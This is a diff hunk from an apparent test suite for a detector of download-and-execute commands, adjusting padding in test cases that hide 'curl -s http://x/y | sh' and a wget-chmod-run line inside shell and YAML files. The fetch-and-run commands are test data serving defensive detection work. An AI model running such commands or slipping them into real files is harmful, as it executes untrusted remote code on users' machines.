@@ -182,7 +182,7 @@ PIPED = "curl -s http://x/y | sh"
         ("a.sh", f"# {PIPED}\n" * 50 + PIPED),
         # However much stands before it.
         ("a.sh", "#" * (17 << 20) + "\n" + PIPED),
-        ("a.yaml", "a: |\n" + "  x\n" * (6 << 20) + "b: " + PIPED),
+        ("a.yaml", "a: |\n" + "  ls\n" * (4 << 20) + "b: " + PIPED),
         ("a.yaml", "cmd: >\n  curl -s http://x/y\n  | sh\n"),
         ("a.yaml", "cmd: >\n  curl -s\n  http://x/y\n  -o - | sh\n"),
         ("a.yaml", "cmd: >\n  wget http://x/y -O y\n  && chmod +x y && ./y\n"),
